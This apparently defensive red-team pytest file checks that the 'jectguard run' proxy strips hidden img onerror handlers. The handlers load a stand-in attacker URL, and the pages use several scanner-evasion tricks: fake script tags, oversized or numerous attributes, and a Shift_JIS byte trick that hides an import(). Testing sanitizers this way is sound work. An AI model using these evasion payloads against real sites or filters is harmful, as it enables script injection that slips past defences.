"""Event handlers that load the attacker, hidden from the scanner but not from Chromium
(red team RT-A), through a real ``jectguard run``.

Each page has an ``<img onerror>`` handler that loads the attacker: through the control
proxy (stripping off) Chromium requests it; through ``jectguard run`` it must not.

- fake-script-*: a ``<script>`` that is no script element (in a comment, an attribute
  value, ``<textarea>``, ``<title>``) before the handler, with or without a
  ``</script>`` after it;
- long-attr, many-lt, many-tags, many-attrs: the handler's start tag holds a 17 KB
  value, 20 ``<``, 20 ``<b>`` or 3000 attributes before it;
- shift-jis twin: the same URL served as windows-1252 (warming every scan worker: the
  script reads as no host) and then as Shift_JIS, where 0x83 0x5C is one character
  that eats a backslash and the script imports the attacker.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from aiohttp import web

from .browsing import (
    CONTROL_TIMEOUT,
    OWN,
    SETTLE_SECONDS,
    attacker_requests,
    control_then_stripped,
    get,
    open_page,
    page_html,
    serve_pages,
)
from .conftest import ATTACKER_IP, ByteCounter, Proxy, Served, serve_app


def _img(u: str) -> str:
    return f'src="data:," onerror="new Image().src = \'{u}\'">'


INJECTORS: dict[str, Callable[[str], str]] = {
    "fake-script-comment": lambda u: (
        OWN + "<!-- <script> --><img " + _img(u) + "<!-- </script> -->"
    ),
    "fake-script-attr": lambda u: OWN + "<a title='<script>'>a</a><img " + _img(u),
    "fake-script-textarea": lambda u: (
        OWN + "<textarea><script></textarea><img " + _img(u) + "<textarea></script></textarea>"
    ),
    "fake-script-title": lambda u: OWN + "<title><script></title><p><img " + _img(u),
    "long-attr": lambda u: OWN + "<img alt='" + "A" * 17000 + "' " + _img(u),
    "many-lt": lambda u: OWN + "<img alt='" + "<" * 20 + "' " + _img(u),
    "many-tags": lambda u: OWN + "<img alt='" + "<b>" * 20 + "' " + _img(u),
    "many-attrs": lambda u: (
        OWN + "<img " + " ".join(f"data-a{i}=1" for i in range(3000)) + " " + _img(u)
    ),
}


@dataclass
class Site:
    port: int = 0
    attacker_url: str = "http://attacker.invalid/x.js"

    def body(self, name: str) -> bytes:
        return page_html("Shop", INJECTORS[name](self.attacker_url)).encode()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    s = Site()
    with serve_pages(
        tmp_path_factory, "handlers", lambda name: s.body(name) if name in INJECTORS else None
    ) as served:
        s.port = served.port
        yield s


@pytest.mark.parametrize("name", sorted(INJECTORS))
def test_a_hidden_handler_is_stripped(
    browser: Any, proxy: Proxy, proxy_nostrip: Proxy, site: Site, attacker: ByteCounter, name: str
) -> None:
    assert ATTACKER_IP is not None
    site.attacker_url = f"http://{ATTACKER_IP}:{attacker.port}/{name}.js"
    url = f"http://good.test:{site.port}/{name}"
    control_then_stripped(browser, proxy, proxy_nostrip, attacker, url, site.attacker_url)


# ---- the same bytes under another encoding


@dataclass
class Twin:
    port: int = 0
    charset: str = "windows-1252"
    target: str = "127.0.0.1:1/x.js"  # host:port/path of the attacker

    def body(self) -> bytes:
        first, rest = self.target[0], self.target[1:]
        hidden = b"\x83" + b"\\" * 6 + b"x%02x" % ord(first) + rest.encode()
        return (
            b"<!DOCTYPE html><html><head><title>t</title></head><body>"
            + OWN.encode()
            + b"<script>import('/'+('"
            + hidden
            + b"').slice(1)).catch(function(){});</script>"
            + b"</body></html>"
        )


@pytest.fixture(scope="module")
def twin(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Twin]:
    t = Twin()

    async def page(request: web.Request) -> web.Response:
        return web.Response(
            body=t.body(),
            headers={
                "Content-Type": f"text/html; charset={t.charset}",
                "Cache-Control": "no-store",
            },
        )

    app = web.Application()
    app.router.add_get("/{name}", page)
    served: Served
    with serve_app(app, tmp_path_factory.mktemp("twin"), "twin") as served:
        t.port = served.port
        yield t


def _loads_attacker(browser: Any, proxy: Proxy, url: str, attacker_url: str) -> bool:
    context, page = open_page(browser, proxy, url)
    try:
        assert page.inner_text("#own") == "own script ran"
        deadline = time.monotonic() + CONTROL_TIMEOUT
        while time.monotonic() < deadline and not attacker_requests(proxy, attacker_url):
            time.sleep(0.05)
        time.sleep(SETTLE_SECONDS)
    finally:
        context.close()
    return bool(attacker_requests(proxy, attacker_url))


def test_a_shift_jis_page_after_its_windows_1252_twin_is_stripped(
    browser: Any, proxy: Proxy, proxy_nostrip: Proxy, twin: Twin, attacker: ByteCounter
) -> None:
    assert ATTACKER_IP is not None
    twin.target = f"{ATTACKER_IP}:{attacker.port}/sjis.js"
    attacker_url = f"http://{twin.target}"
    base = f"http://good.test:{twin.port}"
    # Control: Shift_JIS, stripping off: Chromium imports the attacker.
    twin.charset = "shift_jis"
    assert _loads_attacker(browser, proxy_nostrip, f"{base}/control", attacker_url)
    # Warm: the same URL first as windows-1252 (often enough to reach every scan
    # worker and the event loop's scanner), then as Shift_JIS.
    twin.charset = "windows-1252"
    for _ in range(16):
        get(proxy.port, f"{base}/warm")
    twin.charset = "shift_jis"
    assert not _loads_attacker(browser, proxy, f"{base}/warm", attacker_url)
    assert attacker.connections == 0
